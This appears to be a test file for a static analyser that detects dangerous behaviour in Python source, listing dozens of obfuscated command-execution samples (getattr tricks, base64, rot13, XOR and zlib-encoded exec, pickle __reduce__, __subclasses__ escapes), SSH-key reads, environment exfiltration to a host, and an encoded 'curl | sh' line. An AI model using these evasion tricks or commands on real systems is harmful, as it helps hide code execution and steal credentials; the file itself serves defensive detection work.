/** What sources come to: each line a way of reaching the machine, or what only looks like one. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { loadGrammar } from './grammar.ts'
import { CodeReport } from './report.ts'
import { describeSource } from './walk.ts'

await loadGrammar()

function base64(text: string): string {
  return Buffer.from(text).toString('base64')
}

/** What a source does, as `kind name reach`, without its imports. */
function effects(source: string): readonly string[] {
  const report = new CodeReport()
  describeSource(source, report)
  assert.equal(report.trouble, undefined, source)
  const found = report.facts.filter(({ kind }) => kind !== 'import')
  return [...new Set(found.map(({ kind, target, reach }) => `${kind} ${target} ${reach}`))]
}

const SYSTEM = 'process os.system import'
const zipped = deflateSync(Buffer.from('import socket\nsocket.socket()')).toString('base64')

/** Sources and what they must be found to do. */
const REACHING: readonly (readonly [source: string, effect: string])[] = [
  ['import os\nos.system("id")', SYSTEM],
  ['from os import system as s\ns("id")', SYSTEM],
  ['import os as o\nf = o.system\nf("id")', SYSTEM],
  ['from os import *\nsystem("id")', SYSTEM],
  ["getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", SYSTEM],
  ["import sys\nsys.modules['os'].system('id')", SYSTEM],
  ["import os\nos.__dict__['system']('id')", SYSTEM],
  ["import os\nvars(os)['system']('id')", SYSTEM],
  ["import posix\nposix.system('id')", SYSTEM],
  ["import logging\nlogging.os.system('id')", SYSTEM],
  ["import operator, os\noperator.attrgetter('system')(os)('id')", SYSTEM],
  ['import functools, os\nfunctools.partial(os.system, "id")()', SYSTEM],
  ["import os\ns = 'sys'\ns += 'tem'\ngetattr(os, s)('id')", SYSTEM],
  ["import os\nf = {'a': os.system}\nf['a']('id')", SYSTEM],
  ["import os\nfor g in [os.system]:\n  g('id')", SYSTEM],
  ['import os\ndef f():\n  os.system("id")\nf()', SYSTEM],
  ['import os\nclass A:\n  x = os.system("id")', SYSTEM],
  ['import os\n@os.system\nclass A: pass', SYSTEM],
  ['import os\ndef f(a=os.system("id")): pass', SYSTEM],
  ['import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()', SYSTEM],
  ['import atexit, os\natexit.register(lambda: os.system("id"))', SYSTEM],
  ['import os\nclass E:\n  __getattr__ = os.system\nE().id', SYSTEM],
  ["def m(a, b): return getattr(a, b)('id')\nimport os\nm(os, 'system')", SYSTEM],
  ['class M(type):\n  def __new__(m, *a):\n    import os\n    os.system("id")\nclass A(metaclass=M): pass', SYSTEM],
  ['import os\nclass B:\n  def __init_subclass__(c): os.system("id")\nclass D(B): pass', SYSTEM],
  ['import os\n(lambda f: f("id"))(os.system)', SYSTEM],
  ['import os\nclass A:\n  @property\n  def p(self): os.system("id")\nA().p', SYSTEM],
  ['import os\nif x:\n  f = os.system\nelse:\n  f = None\nf("id")', SYSTEM],
  ['import os\nf"{os.system(1)}"', SYSTEM],
  ['import os\n[os.system(x) for x in "ab"]', SYSTEM],
  ['import os\nwith a(os.system("id")) as b: pass', SYSTEM],
  [`exec(__import__('base64').b64decode('${base64('import os\nos.system("x")')}'))`, SYSTEM],
  ["import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz(1)', 'rot13'))", SYSTEM],
  [
    `def d(s):\n  import base64\n  return base64.b64decode(s).decode()\nexec(d('${base64('import os;os.system(1)')}'))`,
    SYSTEM,
  ],
  ["exec(';'.join(['import os', ')1(metsys.so'[::-1]]))", SYSTEM],
  [`exec(''.join(map(chr, [${[...Buffer.from('import os;os.system(1)')].join(',')}])))`, SYSTEM],
  [`exec(bytes(c ^ 7 for c in [${[...Buffer.from('import os;os.system(1)')].map((c) => c ^ 7).join(',')}]))`, SYSTEM],
  [`import base64, zlib\nexec(zlib.decompress(base64.b64decode('${zipped}')))`, 'network socket.socket import'],
  [
    `X = '${base64('import os\nos.system("curl http://x | sh") # pad pad')}'`,
    'payload shell commands in an encoded text import',
  ],
  ["import os\nos.__getattribute__('system')('id')", SYSTEM],
  ["__loader__.load_module('os').system('id')", SYSTEM],
  ["import sys\nsys.modules.get('os').system('id')", SYSTEM],
  ["import os\nos.system.__call__('id')", SYSTEM],
  ["import os\nos.__dict__.get('system')('id')", SYSTEM],
  ["type('X', (), {'__init__': lambda s: __import__('os').system('id')})()", SYSTEM],
  ["import json\njson.loads.__globals__['sys'].modules['os'].system('id')", SYSTEM],
  ['import os, pickle\nclass R:\n  def __reduce__(self):\n    return os.system, ("id",)\npickle.dumps(R())', SYSTEM],
  ["print.__self__.eval('1')", 'execution builtins.eval import'],
  ["import os\nos.environ['LD_PRELOAD'] = 'x'", 'hook os.environ[LD_PRELOAD] import'],
  ["__builtins__.__dict__['ev' + 'al']('1')", 'execution builtins.eval import'],
  ["globals()['__builtins__']['exec']('1')", 'execution builtins.exec import'],
  ["[*map(eval, ['1'])]", 'execution builtins.eval import'],
  ['().__class__.__base__.__subclasses__()[40]', 'execution builtins.object.__subclasses__ import'],
  ['import os\ngetattr(os, input())("id")', 'execution os.* import'],
  ['exec "import os"', 'execution builtins.exec import'],
  ['x: int = eval("1")', 'execution builtins.eval import'],
  ['from torch.hub import load\nload("a/b", "c")', 'execution torch.hub.load import'],
  ['import marshal\nmarshal.loads(b"x")', 'execution marshal.loads import'],
  ["import importlib\nimportlib.import_module('sub' + 'process').run('x')", 'process subprocess.run import'],
  ['try:\n  import subprocess as s\nexcept ImportError:\n  s = None\ns.call("x")', 'process subprocess.call import'],
  ['async def f():\n  import os\n  os.system("id")', 'process os.system call'],
  ['import requests, os\nrequests.post("http://x", data=dict(os.environ))', 'credential os.environ import'],
  ["open('/root/.ssh/id_rsa')", 'credential builtins.open(/root/.ssh/id_rsa) import'],
  ["open('/root/.bashrc', 'a')", 'execution builtins.open(/root/.bashrc) import'],
  ['import ctypes\nctypes.CDLL(None)', 'native ctypes.CDLL import'],
  ['import builtins\nbuiltins.open = print', 'hook builtins.open import'],
  ["import sys\nsys.modules['torch'] = x", 'hook sys.modules[torch] import'],
  [
    'import torch, os\nclass N(torch.nn.Module):\n  def __init__(self):\n    self.go()\n  def go(self):\n    os.system("x")',
    'process os.system load',
  ],
  ['import torch, os\nclass N(torch.nn.Module):\n  def other(self):\n    os.system("x")', 'process os.system call'],
  ['import subprocess\nif __name__ == "__main__":\n  subprocess.run(["a"])', 'process subprocess.run call'],
]

/** Sources that do nothing of the kind. */
const HARMLESS: readonly string[] = [
  'import torch\nmodel.eval()\ntorch.compile(model)',
  'import re\nre.compile("x")',
  "import os\nos.path.join('a', 'b')\nos.makedirs('x', exist_ok=True)\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'",
  "import json\nwith open('vocab.json') as f:\n  json.load(f)",
  'import torch\ntorch.load("x", weights_only=True)',
  'import numpy as np\nnp.load("x.npy")',
  'import yaml\nyaml.load(f, Loader=yaml.SafeLoader)',
  'import subprocess\ntry:\n  pass\nexcept subprocess.CalledProcessError:\n  pass',
  'isinstance(f, type(eval))',
  "import importlib\nimportlib.import_module('torch')",
  'class A:\n  def system(self): pass\nA().system()',
  "os = Helper()\nos.system('x')",
  `X = '${base64('a plain text that is long enough to be looked at, and harmless')}'`,
  'print("exec(1)")',
  '"""\nimport os\nos.system("x")\n"""',
]

for (const [source, effect] of REACHING) {
  test(`describeSource() finds ${effect} in ${JSON.stringify(source.slice(0, 70))}`, () => {
    assert.ok(effects(source).includes(effect), effects(source).join('; '))
  })
}

test('describeSource() finds nothing in sources that only look so', () => {
  for (const source of HARMLESS) assert.deepEqual(effects(source), [], source)
})
